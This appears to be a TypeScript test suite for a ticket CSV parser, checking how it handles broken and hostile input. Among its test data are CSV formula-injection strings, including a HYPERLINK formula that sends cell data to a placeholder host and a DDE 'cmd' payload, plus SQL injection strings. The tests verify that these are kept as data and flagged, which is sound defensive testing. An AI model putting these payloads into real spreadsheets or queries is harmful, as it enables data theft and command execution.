/**
 * The parser against hostile and broken input: each case with its full expected result, the limits
 * at their edges, a time bound for the worst bodies, and a seeded fuzz that checks invariants.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { parseTicket } from './parse.js';
import { type Summary, summarize } from './testing/summary.js';
import { LIMITS } from './ticket.js';

const HEAD = 'Order: 123456\nVAT: 0.00\nTotal: 1.00\n';

/** A ticket with `rows` after the column row. */
function ticket(rows: string[], head = HEAD): string {
  return `${head}\nproduct,product_id,price\n${rows.join('\n')}\n`;
}

/** Deterministic bytes: the same "garbage" on every run. */
function noise(seed: number, length: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

const MIB = 1024 * 1024;
const LONG_LINE = 'x'.repeat(MIB - 200);

const CASES: { name: string; body: string | Buffer; want: Summary }[] = [
  { name: 'an empty body', body: '', want: { ok: false, error: 'empty', warnings: [] } },
  { name: 'only whitespace', body: ' \r\n\t\n ', want: { ok: false, error: 'empty', warnings: [] } },
  {
    name: 'binary garbage',
    body: noise(7, 4096),
    want: { ok: false, error: 'binary', warnings: ['not_utf8'] },
  },
  {
    name: 'control characters without a NUL (over 5%)',
    body: `Order: 1\n\nproduct,product_id,price\n${'\u0001\u0002\u0003a,b,1\n'.repeat(20)}`,
    want: { ok: false, error: 'binary', warnings: [] },
  },
  {
    name: 'one byte over 1 MiB',
    body: Buffer.alloc(MIB + 1, 0x61),
    want: { ok: false, error: 'too_large', warnings: [] },
  },
  {
    name: 'a 1 MiB single line and nothing else',
    body: LONG_LINE,
    want: {
      ok: false,
      error: 'missing_order',
      warnings: ['line_too_long@1', 'missing_header', 'missing_header'],
    },
  },
  {
    name: 'a 1 MiB single line among good rows costs that line only',
    body: ticket(['a,A1,0.50', LONG_LINE, 'b,B1,0.50']),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['a', 'A1', 50],
        ['b', 'B1', 50],
      ],
      warnings: ['line_too_long@7#2'],
    },
  },
  {
    name: 'CSV injection strings are kept verbatim, flagged',
    body: ticket([
      '=HYPERLINK("http://x.example/?"&A1;"click"),EVIL1,0.25',
      '@SUM(A1:A9),EVIL2,0.25',
      "+cmd|' /C calc'!A0,EVIL3,0.25",
      'Tea,-2+3,0.25',
    ]),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['=HYPERLINK("http://x.example/?"&A1;"click")', 'EVIL1', 25],
        ['@SUM(A1:A9)', 'EVIL2', 25],
        ["+cmd|' /C calc'!A0", 'EVIL3', 25],
        ['Tea', '-2+3', 25],
      ],
      warnings: ['formula_prefix@6#1', 'formula_prefix@7#2', 'formula_prefix@8#3', 'formula_prefix@9#4'],
    },
  },
  {
    name: 'SQL-looking text is data',
    body: ticket(["Robert'); DROP TABLE products;--,x' OR '1'='1,0.50", '"1; DELETE FROM tickets",a;b,0.50']),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ["Robert'); DROP TABLE products;--", "x' OR '1'='1", 50],
        ['1; DELETE FROM tickets', 'a;b', 50],
      ],
      warnings: [],
    },
  },
  {
    name: 'SQL in the Order is a bad Order',
    body: ticket(['a,A,1'], "Order: 1'; DROP TABLE tickets;--\n"),
    want: { ok: false, error: 'bad_order', line: 1, warnings: ['missing_header', 'missing_header'] },
  },
  {
    name: 'unicode: emoji, CJK, RTL, a decomposed accent (stored NFC); a 200-emoji name fits',
    body: ticket([
      '☕ Café crème,☕1,0.20',
      '拉面,ラ-1,0.20',
      'قهوة,ق1,0.20',
      'Cafe\u0301,IZ8z,0.20',
      `${'🍕'.repeat(200)},P1,0.20`,
    ]),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['☕ Café crème', '☕1', 20],
        ['拉面', 'ラ-1', 20],
        ['قهوة', 'ق1', 20],
        ['Café', 'IZ8z', 20],
        ['🍕'.repeat(200), 'P1', 20],
      ],
      warnings: [],
    },
  },
  {
    name: 'a product_id twice: same name and price is two of it; another price is flagged, the last row wins',
    body: ticket(['Café,IZ8z,0.20', 'Café,IZ8z,0.20', 'Thé,T1,0.30', 'Thé,T1,0.30 ', 'Thé glacé,T1,0.00']),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['Café', 'IZ8z', 20],
        ['Café', 'IZ8z', 20],
        ['Thé', 'T1', 30],
        ['Thé', 'T1', 30],
        ['Thé glacé', 'T1', 0],
      ],
      warnings: ['duplicate_product@10#5'],
    },
  },
  {
    name: 'negative prices (a discount line) are kept and counted in the total',
    body: ticket(['Menu,M1,1.50', 'Remise fidélité,DISC,-0.50', 'Rien,Z,-0']),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['Menu', 'M1', 150],
        ['Remise fidélité', 'DISC', -50],
        ['Rien', 'Z', 0],
      ],
      warnings: ['negative_price@7#2'],
    },
  },
  {
    name: 'prices that are not amounts drop their rows; exact forms are kept',
    body: ticket([
      'a,A,abc',
      'b,B,1.234',
      'c,C,"1,234.50"',
      'd,D,€2',
      'e,E,1e3',
      'f,F,9999999999',
      'g,G,0.5',
      'h,H,0.500',
      'i,I,.5',
    ]),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [
        ['g', 'G', 50],
        ['h', 'H', 50],
      ],
      warnings: [
        'bad_price@6#1',
        'bad_price@7#2',
        'bad_price@8#3',
        'bad_price@9#4',
        'bad_price@10#5',
        'bad_price@11#6',
        'bad_price@14#9',
      ],
    },
  },
  {
    name: 'field limits and control characters drop their rows',
    body: ticket([
      `${'n'.repeat(201)},A,0.10`,
      `a,${'i'.repeat(65)},0.10`,
      'tab\tin name,B,0.10',
      ',C,0.10',
      'd,,0.10',
      'e,E,',
      `${'n'.repeat(200)},OK,1.00`,
    ]),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [['n'.repeat(200), 'OK', 100]],
      warnings: [
        'field_too_long@6#1',
        'field_too_long@7#2',
        'control_char@8#3',
        'missing_field@9#4',
        'missing_field@10#5',
        'missing_field@11#6',
      ],
    },
  },
  {
    name: 'a row of 40 fields is skipped unread; 32 fields is read (extras ignored)',
    body: ticket([`a,A,1.00${',x'.repeat(37)}`, `b,B,1.00${',x'.repeat(29)}`]),
    want: {
      ok: true,
      order: '123456',
      vat: 0,
      total: 100,
      lines: [['b', 'B', 100]],
      warnings: ['too_many_fields@6#1', 'extra_column@7#2'],
    },
  },
  {
    name: 'a column row with over 32 fields cannot be read',
    body: ticket(['a,A,1']).replace('product,product_id,price', `product,product_id,price${',x'.repeat(40)}`),
    want: { ok: false, error: 'bad_columns', order: '123456', line: 5, warnings: ['too_many_fields@5'] },
  },
  {
    name: 'rows set aside unread still count: one unreadable row is no_valid_lines, not no_lines',
    body: ticket([`"${'x'.repeat(10)}`]),
    want: { ok: false, error: 'no_valid_lines', order: '123456', warnings: ['unclosed_quote@6#1'] },
  },
  {
    name: 'every row bad: an error, with the reasons',
    body: ticket(['a,A', 'b,B,free']),
    want: {
      ok: false,
      error: 'no_valid_lines',
      order: '123456',
      warnings: ['missing_column@6#1', 'bad_price@7#2'],
    },
  },
  {
    name: 'a column row without price',
    body: ticket(['a,A,1']).replace('product,product_id,price', 'product,product_id,cost'),
    want: { ok: false, error: 'bad_columns', order: '123456', line: 5, warnings: ['unknown_column@5'] },
  },
  {
    name: 'no Order header',
    body: ticket(['a,A,1'], 'Till: 3\n'),
    want: {
      ok: false,
      error: 'missing_order',
      warnings: ['unknown_header@1', 'missing_header', 'missing_header'],
    },
  },
  {
    name: 'an empty Order',
    body: ticket(['a,A,1'], 'Order:\nVAT: 0\nTotal: 0.01\n'),
    want: { ok: false, error: 'missing_order', line: 1, warnings: [] },
  },
  {
    name: 'a 65-character Order',
    body: ticket(['a,A,1'], `Order: ${'9'.repeat(65)}\nVAT: 0\nTotal: 1\n`),
    want: { ok: false, error: 'bad_order', line: 1, warnings: [] },
  },
  {
    name: 'VAT above Total, a negative Total',
    body: ticket(['a,A,1'], 'Order: 1\nVAT: 2\nTotal: -1\n').replace('Total: -1', 'Total: 0.50'),
    want: {
      ok: true,
      order: '1',
      vat: 200,
      total: 50,
      lines: [['a', 'A', 100]],
      warnings: ['total_mismatch', 'vat_exceeds_total'],
    },
  },
  {
    name: 'a negative Total is not an amount',
    body: ticket(['a,A,1'], 'Order: 1\nVAT: 0\nTotal: -1\n'),
    want: { ok: true, order: '1', vat: 0, total: null, lines: [['a', 'A', 100]], warnings: ['bad_amount@3'] },
  },
];

for (const c of CASES) {
  test(`parse (hostile): ${c.name}`, () => {
    assert.deepEqual(summarize(parseTicket(c.body)), c.want);
  });
}

test('parse (hostile): at most 1000 rows; 1001 is an error; 5001 body lines are refused unread', () => {
  const rows = (n: number) => Array.from({ length: n }, (_, i) => `p${i},P${i},0.00`);
  const ok = parseTicket(ticket(rows(LIMITS.maxLines), 'Order: 1\n'));
  assert.equal(ok.ok && ok.ticket.lines.length, 1000);
  assert.deepEqual(summarize(parseTicket(ticket(rows(LIMITS.maxLines + 1), 'Order: 1\n'))), {
    ok: false,
    error: 'too_many_lines',
    order: '1',
    warnings: ['missing_header', 'missing_header'],
  });
  const blank = `Order: 1\n\nproduct,product_id,price\na,A,1${'\n'.repeat(LIMITS.maxBodyLines)}`;
  assert.deepEqual(summarize(parseTicket(blank)), { ok: false, error: 'too_many_lines', warnings: [] });
});

test('parse (hostile): warnings stop at 100, the rest are counted', () => {
  const bad = Array.from({ length: 150 }, (_, i) => `p${i},P${i}`);
  const r = parseTicket(ticket([...bad, 'ok,OK,1.00']));
  assert.ok(r.ok);
  assert.equal(r.ticket.warnings.length, LIMITS.maxWarnings + 1);
  const last = r.ticket.warnings.at(-1);
  assert.deepEqual(last, { kind: 'warnings_truncated', detail: '50 more warning(s) were not kept' });
});

test('parse (hostile): the worst bodies cost at most 3x csv-parse reading 1 MiB of plain CSV', () => {
  // A ratio to a reference measured in this run, so a busy machine slows both sides alike.
  const best = (fn: () => unknown) => {
    let min = Number.POSITIVE_INFINITY;
    for (let i = 0; i < 3; i++) {
      const started = performance.now();
      fn();
      min = Math.min(min, performance.now() - started);
    }
    return min;
  };
  const plain = 'Formule(s) midi,aZde,14.90\n'.repeat(Math.floor(MIB / 27));
  const reference = best(() =>
    parse(plain, { record_delimiter: '\n', relax_column_count: true, relax_quotes: true }),
  );
  const csv = (rows: string) => `Order: 1\n\nproduct,product_id,price\n${rows}`;
  const worst: [string, string | Buffer][] = [
    ['a 1 MiB line', LONG_LINE],
    ['a 1 MiB line of commas', ','.repeat(MIB - 100)],
    ['2400 lines opening a quote', csv('"\n'.repeat(2400))],
    ['1000 lines of 1 KB opening a quote', csv(`"${'x'.repeat(1000)}\n`.repeat(1000))],
    ['250 lines of 4 KB opening a quote', csv(`"${'x,'.repeat(15)}${'x'.repeat(4000)}\n`.repeat(250))],
    ['250 lines of 2000 fields', csv(`${'y,'.repeat(2000)}\n`.repeat(250))],
    ['1000 lines of 31 fields', csv(`${'y,'.repeat(30)}\n`.repeat(1000))],
    ['1000 valid rows of 1 KB', csv(`${'p'.repeat(1000)},${'i'.repeat(40)},1.00\n`.repeat(1000))],
    ['200,000 header lines', 'a: b\n'.repeat(200_000)],
    ['1 MiB of noise', noise(3, MIB)],
  ];
  for (const [name, body] of worst) {
    const ms = best(() => parseTicket(body));
    // Measured at 0.05-1.3x the reference; 3x leaves room for noise, not for a blow-up.
    assert.ok(ms < 3 * reference, `${name}: ${ms.toFixed(0)} ms, reference ${reference.toFixed(0)} ms`);
  }
});

test('parse (hostile): 3000 seeded random bodies never throw and keep the invariants', () => {
  const pieces = [
    'Order: 7',
    'VAT: 1,5',
    'Total: 9',
    'x: y',
    '',
    'product,product_id,price',
    'a,A,1',
    '"q,Q,2',
    'é,É,0,5',
  ];
  const extras = ['"', ',', '\r', '\n', '\u0000', '\ufeff', '\u00ff', ';', ' ', '\t', '-', '='];
  let x = 12345;
  const next = (n: number) => {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    return (x >>> 8) % n;
  };
  for (let i = 0; i < 3000; i++) {
    const parts: string[] = [];
    for (let j = next(12); j > 0; j--) {
      parts.push(
        next(3) === 0 ? (extras[next(extras.length)] as string) : (pieces[next(pieces.length)] as string),
      );
    }
    const body = parts.join(next(2) === 0 ? '\n' : '');
    const r = parseTicket(body);
    if (!r.ok) {
      assert.ok(r.error.detail.length > 0);
      continue;
    }
    assert.ok(r.ticket.lines.length >= 1, body);
    for (const l of r.ticket.lines) {
      assert.ok(Number.isSafeInteger(l.priceCents), body);
      assert.ok(l.product !== '' && l.productId !== '', body);
      const text = l.product + l.productId;
      for (let k = 0; k < text.length; k++) {
        const c = text.charCodeAt(k);
        assert.ok(
          c >= 0x20 && (c < 0x7f || c > 0x9f),
          `control character ${c} kept from ${JSON.stringify(body)}`,
        );
      }
    }
  }
});
